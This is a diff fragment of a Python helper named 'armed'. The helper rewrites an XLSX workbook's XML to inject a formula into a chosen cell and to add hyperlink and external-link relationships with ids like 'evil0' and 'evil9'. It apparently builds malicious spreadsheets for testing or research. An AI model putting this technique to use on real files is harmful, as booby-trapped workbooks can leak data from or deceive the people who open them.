@@ -87,7 +87,7 @@ def armed(content: bytes) -> bytes:
     answer = OpenForm(content).cell(OpenForm(content).rows["X1"], "result").coordinate
     sheet, count = re.subn(rf'(<c r="{answer}"[^>]*?) t="(?:s|inlineStr)">.*?</c>', rf'\1 t="str">{formula}</c>', parts[_SHEET].decode())
     assert count == 1
-    parts[_SHEET] = sheet.replace("</worksheet>", "<hyperlinks><hyperlink ref='L7' r:id='evil0' xmlns:r='http://schemas.openxmlformats.org/"
+    parts[_SHEET] = sheet.replace("</worksheet>", "<hyperlinks><hyperlink ref='M7' r:id='evil0' xmlns:r='http://schemas.openxmlformats.org/"
                                   "officeDocument/2006/relationships'/></hyperlinks></worksheet>").encode()
     books = parts["xl/_rels/workbook.xml.rels"]
     outside = _LINK.format(id="evil9", kind="externalLink", target="externalLinks/externalLink1.xml", mode="") + _LINK.format(
